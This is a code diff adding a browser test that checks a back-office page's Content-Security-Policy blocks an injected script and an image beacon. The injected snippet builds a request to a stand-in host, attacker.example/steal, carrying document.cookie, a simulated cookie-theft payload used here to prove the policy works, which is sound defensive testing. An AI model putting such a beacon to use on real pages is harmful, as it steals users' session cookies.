@@ -214,3 +214,25 @@ def test_a_link_cannot_point_the_pages_at_another_server(browser_stack, pages):
     assert not [url for url in went if url.startswith(named)], went
     assert any(url.startswith(browser_stack.http) for url in went) and any(url.startswith(browser_stack.ws)
                                                                            for url in went)
+
+
+def test_the_back_office_runs_no_script_but_its_own(browser_stack, pages):
+    # Given the back office, served with the Content-Security-Policy CloudFront gives it
+    page = pages()
+    response = page.goto(browser_stack.backoffice_url)
+    assert "script-src 'self'" in response.headers["content-security-policy"]
+    expect(page.get_by_role("button", name="Sign in")).to_be_visible()  # its own script runs
+    # When something manages to put a script into the page (what stored XSS would do)
+    page.evaluate("""() => {
+        const s = document.createElement("script");
+        s.textContent = "window.injected = true";
+        document.body.appendChild(s);
+        const img = document.createElement("img");
+        img.src = "https://attacker.example/steal?c=" + encodeURIComponent(document.cookie);
+        document.body.appendChild(img);
+    }""")
+    # Then it does not run, and the beacon is not sent; the browser reports both refusals
+    page.wait_for_timeout(200)
+    assert page.evaluate("window.injected") is None
+    assert len(page.csp_violations) == 2, page.csp_violations
+    page.csp_violations.clear()  # expected here: the fixture fails any other test on one
